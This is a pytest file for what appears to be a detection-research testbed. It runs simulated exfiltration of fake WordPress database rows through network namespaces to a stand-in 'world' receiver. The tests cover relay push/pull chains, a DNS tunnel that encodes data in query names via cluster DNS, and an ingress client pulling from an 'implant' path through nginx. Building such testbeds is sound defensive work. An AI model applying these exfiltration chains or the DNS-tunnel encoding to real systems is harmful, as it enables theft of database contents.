"""Physical exfiltration in the testbed: real relay processes in real network namespaces carry rows of a real
mariadbd to the world's receiver, through a real dnsmasq to the world's resolver, and through real nginx behind
the NodePort to a client at the front door; what arrives must be exactly what the source sent."""

from __future__ import annotations

import base64
import contextlib
import io
import itertools
import json
import os
import random
import secrets
import shutil
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import pytest

from mimir.network import EXFIL_DESTINATION, KUBE_DNS_VIP
from mimir.sources.cluster.capture import NodeCapture, TcpdumpOptions
from mimir.sources.testbed import exfil, relay, services, world
from mimir.sources.testbed.network import NODE_PORT, OUTSIDE_GATEWAY, Network, Pod, Service
from mimir.sources.testbed.processes import NETNS_ETC, WORK_ROOT, Daemon, State, in_netns, run, sweep
from mimir.spec import BURST_SECONDS, BURSTS, ExfilWindow


def _netns_available() -> bool:
    try:
        return subprocess.run(["ip", "netns", "list"], capture_output=True, timeout=10, check=False).returncode == 0
    except (OSError, subprocess.TimeoutExpired):
        return False


NEEDS = ("mariadbd", "mariadb-install-db", "mariadb", "dnsmasq", "nginx", "tcpdump", "tshark", "nft")
needs_testbed = pytest.mark.skipif(
    os.geteuid() != 0 or not _netns_available() or not all(shutil.which(t) for t in NEEDS),
    reason=f"the testbed's exfiltration needs root, `ip netns` and {', '.join(NEEDS)} (make setup installs them)",
)
RATE = 120_000  # bytes per minute: 12 KB over a 6 s window
DURATION = 6.0
DB, WP, DNS = "my-release-pxc", "wordpress", "kube-dns"


# without namespaces ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("shape", ["constant", "bursts"])
def test_schedule_sends_every_byte_within_the_window(shape: str) -> None:
    plan = relay.schedule(100_003, 30.0, shape, random.Random(4), BURSTS, BURST_SECONDS)  # noqa: S311
    assert sum(size for _, size in plan) == 100_003
    times = [t for t, _ in plan]
    assert times == sorted(times) and times[0] >= 0 and times[-1] <= 30.0
    if shape == "constant":
        assert times[0] == 0 and times[-1] == 30.0
        assert max(b - a for a, b in itertools.pairwise(times)) <= relay.TICK + 1e-9
    else:  # BURSTS bursts of BURST_SECONDS, the same for the same seed
        gaps = [b - a for a, b in itertools.pairwise(times)]
        assert sum(g > relay.TICK + 1e-9 for g in gaps) <= BURSTS - 1
        assert plan == relay.schedule(100_003, 30.0, shape, random.Random(4), BURSTS, BURST_SECONDS)  # noqa: S311


@pytest.mark.parametrize(("tag", "seq"), [("0-a1b2c3", 0), ("12-ffffff", 7), ("123-abcdef", 10**9)])
def test_tunnel_queries_fit_and_decode(tag: str, seq: int) -> None:
    data = secrets.token_bytes(relay.tunnel_capacity(tag, seq))
    query = relay.dns_query(seq & 0xFFFF, relay.tunnel_name(tag, seq, data))
    assert len(query) <= relay.TUNNEL_QUERY
    assert len(query) > relay.TUNNEL_QUERY - 10  # the budget is used, not wasted
    bigger = relay.dns_query(0, relay.tunnel_name(tag, seq, data + b"x" * 8))
    assert len(bigger) > relay.TUNNEL_QUERY
    log = world.Log(io.StringIO())
    reply = world.answer(query, "10.244.0.9", "udp", log)
    assert reply is not None and reply[3] & 0x0F == 0 and reply[7] == 1  # NOERROR and one A record
    record = json.loads(log.file.getvalue())
    assert (record["window"], record["seq"], base64.b64decode(record["data"])) == (tag, seq, data)


def test_world_answers_other_names_nxdomain() -> None:
    log = world.Log(io.StringIO())
    reply = world.answer(relay.dns_query(7, "api.wordpress.org"), "203.0.113.1", "udp", log)
    assert reply is not None and reply[:2] == b"\0\x07" and reply[3] & 0x0F == world.NXDOMAIN
    assert json.loads(log.file.getvalue())["kind"] == "query"


# a testbed of the test's own ---------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def template() -> Iterator[Path]:
    """System tables made once: each test copies them into its own database pod."""
    folder = WORK_ROOT / f"mtbx-template-{secrets.token_hex(3)}"
    made_root = not WORK_ROOT.exists()
    try:
        run(["mariadb-install-db", "--user=mysql", f"--datadir={folder}", "--auth-root-authentication-method=socket",
             "--skip-test-db", "--innodb-log-file-size=8M"], timeout=120, what="mariadb-install-db")  # fmt: skip
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)
        if made_root:
            with contextlib.suppress(OSError):
                WORK_ROOT.rmdir()  # unless a testbed came up meanwhile


class Bed:
    """A network with the world and a database pod holding WordPress-like tables, removed whatever happens."""

    def __init__(self) -> None:
        self.state = State(f"mtbx-{secrets.token_hex(3)}")
        self.work = WORK_ROOT / self.state.name
        self.state.folders.append(str(self.work))
        self.state.save()
        self.net = Network(self.state)
        self.daemons: list[Daemon] = []

    def setup(self, template: Path) -> None:
        self.net.create()
        self.start(services.world(self.net.outside, self.work), "world: resolver")
        self.db = self.pod("my-release-pxc-0", {"app": DB})
        self.database(template)

    def pod(self, name: str, labels: dict[str, str], namespace: str = "default") -> Pod:
        return self.net.add_pod(name, namespace, labels, f"test/{name}", services.resolv_conf(namespace, KUBE_DNS_VIP))

    def start(self, daemon: Daemon, ready: str) -> Daemon:
        self.daemons.append(daemon)
        services.wait_for(lambda: ready in daemon.log.read_text(errors="replace"), daemon.name, 20, daemon)
        return daemon

    def socket(self, pod: Pod) -> Path:
        assert pod is self.db
        return self.work / "db" / "mysqld.sock"

    def database(self, template: Path) -> None:
        """A single mariadbd (no Galera) in the database pod, on a copy of the system tables."""
        data = self.work / "db"
        data.parent.mkdir(parents=True, exist_ok=True)
        run(["cp", "-a", str(template), str(data)], what="copying the system tables")
        conf = self.work / "my.cnf"
        conf.write_text(f"[mysqld]\nuser = mysql\ndatadir = {data}\nsocket = {data / 'mysqld.sock'}\n"
                        f"pid-file = {data / 'mysqld.pid'}\nlog-error = {data / 'error.log'}\nskip-networking\n"
                        "innodb_log_file_size = 8M\ninnodb_buffer_pool_size = 16M\n")  # fmt: skip
        command = ["mariadbd", f"--defaults-file={conf}"]
        daemon = Daemon("mariadbd", self.db.netns, command, self.work / "logs" / "mariadbd.log").start()
        self.daemons.append(daemon)
        services.wait_for(lambda: self.sql("SELECT 1", check=False), "mariadbd", 30, daemon)
        rows = [
            "CREATE DATABASE wordpress",
            "CREATE TABLE wordpress.wp_users (ID INT PRIMARY KEY, user_login VARCHAR(60), user_email VARCHAR(100), "
            "user_pass VARCHAR(255))",
            "CREATE TABLE wordpress.wp_posts (ID INT PRIMARY KEY, post_title TEXT, post_content TEXT)",
            "CREATE TABLE wordpress.wp_comments (comment_ID INT PRIMARY KEY, comment_author VARCHAR(60), "
            "comment_content TEXT)",
        ]
        ids = range(1, 13)
        rows.append(_insert("wp_users", [(k, f"user{k}", f"user{k}@example.org", f"$P$B{secrets.token_hex(14)}")
                                         for k in ids]))  # fmt: skip
        rows.append(_insert("wp_posts", [(k, f"Post {k}", f"Body of post {k}: {'lorem ' * k}") for k in ids]))
        rows.append(_insert("wp_comments", [(k, f"reader{k}", f"Comment {k} on a post") for k in ids]))
        self.sql("; ".join(rows))

    def sql(self, statement: str, *, check: bool = True) -> bool:
        done = subprocess.run(["mariadb", f"--socket={self.work / 'db' / 'mysqld.sock'}", "-e", statement],
                              capture_output=True, text=True, timeout=30, check=False)  # fmt: skip
        assert done.returncode == 0 or not check, done.stderr
        return done.returncode == 0

    def close(self) -> None:
        for daemon in reversed(self.daemons):
            daemon.stop()
        sweep(self.state)


def _insert(table: str, rows: list[tuple[object, ...]]) -> str:
    values = ", ".join("(" + ", ".join(repr(v) for v in row) + ")" for row in rows)
    return f"INSERT INTO wordpress.{table} VALUES {values}"  # noqa: S608 (the test's own rows)


@pytest.fixture
def bed(template: Path) -> Iterator[Bed]:
    testbed = Bed()
    try:
        testbed.setup(template)
        yield testbed
    finally:
        testbed.close()
    name = testbed.state.name
    left = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True, check=False).stdout
    assert not [line for line in left.splitlines() if line.startswith(name)], left
    assert not (NETNS_ETC.is_dir() and list(NETNS_ETC.glob(f"{name}-*")))
    assert not testbed.work.exists() and not testbed.state.path.exists()


def _check(result: dict, window: ExfilWindow, pods: list[str]) -> None:
    total = round(window.bytes_per_minute * window.duration / 60)
    assert result["problems"] == []
    assert result["bytes"] == result["bytes_received"] == total
    assert result["sha256_sent"] == result["sha256_received"]
    assert result["path"] == list(window.path) and result["pods"] == pods
    assert window.duration - 0.5 <= result["end"] - result["start"] <= window.duration + 1.0


def _tshark_bytes(folder: Path) -> Counter[tuple[str, str]]:
    """Frame bytes per (source, destination) address in the capture, every interface's view summed."""
    totals: Counter[tuple[str, str]] = Counter()
    for pcap in sorted(folder.glob("capture-*.pcap")):
        out = run(["tshark", "-r", str(pcap), "-n", "-T", "fields", "-e", "ip.src", "-e", "ip.dst", "-e",
                   "frame.len"], timeout=60, what="tshark")  # fmt: skip
        for line in out.splitlines():
            src, dst, size = [*line.split("\t"), "", ""][:3]
            if src and size:
                totals[src, dst] += int(size)
    return totals


# the tests -------------------------------------------------------------------------------------------------------
@needs_testbed
def test_push_and_pull_chains_carry_database_rows_to_the_world(bed: Bed) -> None:
    wp = bed.pod("wordpress-6d5f8-abcde", {"app": WP})
    pcaps = bed.work / "pcap"
    capture = NodeCapture(pcaps, TcpdumpOptions(interface="any", netns=Path(f"/run/netns/{bed.net.node}")))
    capture.start()
    try:
        pulled = ExfilWindow((DB, WP, "outside"), RATE, 0, DURATION)  # WordPress calls the database: it pulls
        pushed = ExfilWindow((WP, DB, "outside"), RATE, 0, DURATION)  # the database never calls WordPress: pushed
        runs = [exfil.start_window(bed.net, bed.work, w, k, bed.socket, seed=5) for k, w in enumerate((pulled, pushed))]
        results = [exfil.finish_window(r, timeout=DURATION + 15) for r in runs]
    finally:
        capture.stop()
    _check(results[0], pulled, [bed.db.name, wp.name])
    _check(results[1], pushed, [wp.name, bed.db.name])
    hops = [json.loads(h.summary.read_text()) for r in runs for h in r.hops]
    assert [h["input"] + ">" + h["output"] for h in hops] == ["source>serve", "pull>push", "source>push", "accept>push"]
    totals, total = _tshark_bytes(pcaps), results[0]["bytes"]
    assert totals[bed.db.ip, wp.ip] >= total  # pulled: in the responses
    assert totals[wp.ip, bed.db.ip] >= total  # pushed
    assert totals[wp.ip, EXFIL_DESTINATION] >= total and totals[bed.db.ip, EXFIL_DESTINATION] >= total
    assert totals[OUTSIDE_GATEWAY, EXFIL_DESTINATION] >= 2 * total  # both, after the node's SNAT


@needs_testbed
def test_dns_tunnel_through_cluster_dns_reaches_the_world_resolver(bed: Bed) -> None:
    resolvers = [
        bed.pod(f"coredns-5d78c9869d-{s}", {"k8s-app": DNS}, namespace="kube-system") for s in ("x7k2p", "q9z4w")
    ]
    for pod in resolvers:
        bed.start(services.dns(pod, bed.work, {}), "started")
    ports = [("udp", 53, 53), ("tcp", 53, 53)]
    bed.net.add_service(Service(DNS, "kube-system", KUBE_DNS_VIP, ports, {"k8s-app": DNS}, [p.ip for p in resolvers]))
    window = ExfilWindow((DB, DNS, "outside"), RATE / 2, 0, DURATION)
    run_ = exfil.start_window(bed.net, bed.work, window, 3, bed.socket, seed=7)
    result = exfil.finish_window(run_, timeout=DURATION + 15)
    _check(result, window, [bed.db.name, ""])
    source = json.loads(run_.hops[0].summary.read_text())
    assert source["resolver"] == KUBE_DNS_VIP and source["max_query"] <= relay.TUNNEL_QUERY
    queries = [json.loads(line) for line in (bed.work / "world.jsonl").read_text().splitlines()]
    tunnel = [q for q in queries if q["kind"] == "tunnel" and q["window"] == run_.tag]
    assert len({q["seq"] for q in tunnel}) == source["queries"] > 1
    assert max(q["size"] for q in tunnel) <= relay.TUNNEL_QUERY  # as dnsmasq forwarded them
    for pod in resolvers:  # a socket per query, as a stub resolver: the VIP spreads them over the DNS pods
        assert f"{run_.tag}.{relay.TUNNEL_DOMAIN} to " in (bed.work / "logs" / f"{pod.name}.log").read_text()


@needs_testbed
def test_a_window_cut_short_is_reported_and_every_relay_stopped(bed: Bed) -> None:
    window = ExfilWindow((DB, "outside"), RATE, 0, DURATION)
    run_ = exfil.start_window(bed.net, bed.work, window, 4, bed.socket, seed=1)
    time.sleep(2)
    result = exfil.finish_window(run_, timeout=0.5)
    assert not any(hop.daemon.alive() for hop in run_.hops)
    assert 0 < result["bytes"] < RATE * DURATION / 60
    assert result["problems"][0] == f"{run_.hops[0].label}: still sending after 0.5 s"
    assert f"{run_.hops[0].label}: stopped before its upstream ended" in result["problems"]
    world_daemon = bed.daemons[0]
    world_daemon.stop()
    assert world_daemon.proc is not None and world_daemon.proc.returncode == 0  # SIGTERM ends it cleanly


@needs_testbed
def test_ingress_client_pulls_through_the_nodeport_until_it_reaches_the_implant(bed: Bed) -> None:
    pods = [bed.pod(f"wordpress-6d5f8-{s}", {"app": WP}) for s in ("bcdfg", "hjklm")]
    for pod in pods:
        home = bed.work / pod.name
        conf = services.nginx_conf(pod, home)
        command = ["nginx", "-c", str(conf), "-g", "daemon off;"]
        daemon = Daemon(pod.name, pod.netns, command, bed.work / "logs" / f"{pod.name}.log").start()
        bed.daemons.append(daemon)
        services.wait_for((home / "nginx.pid").exists, f"nginx in {pod.name}", 20, daemon)
    entry = Service(WP, "default", "10.96.0.80", [("tcp", 80, 80)], {"app": WP}, [p.ip for p in pods], NODE_PORT)
    bed.net.add_service(entry)
    # no implant yet: every attempt gets a 502 from one pod's nginx or the other's, on a new connection each
    summary = bed.work / "lonely.json"
    url = f"http://{OUTSIDE_GATEWAY}:{NODE_PORT}{services.IMPLANT}"
    done = subprocess.run(in_netns(bed.net.outside, [sys.executable, "-m", "mimir.sources.testbed.relay", "--name",
                          "lonely client", "--summary", str(summary), "--pull", url, "--sink", "--patience=1"]),
                          capture_output=True, timeout=30, check=False)  # fmt: skip
    lonely = json.loads(summary.read_text())
    assert done.returncode == 1 and lonely["errors"][0].startswith("lonely client: no data from")
    assert lonely["statuses"] == {"502": lonely["attempts"]} and lonely["attempts"] >= 3
    window = ExfilWindow((DB, WP, "ingress"), RATE, 0, DURATION)
    started = time.monotonic()
    run_ = exfil.start_window(bed.net, bed.work, window, 0, bed.socket, seed=11)
    result = exfil.finish_window(run_, timeout=DURATION + 15)
    _check(result, window, [bed.db.name, result["pods"][1]])
    assert result["pods"][1] in {p.name for p in pods}
    client = json.loads(run_.hops[-1].summary.read_text())
    assert client["input"] == "pull" and client["output"] == "sink" and client["attempts"] >= 1
    assert set(client["statuses"]) <= {"502", "ConnectionRefusedError"}
    assert time.monotonic() - started < DURATION + 10
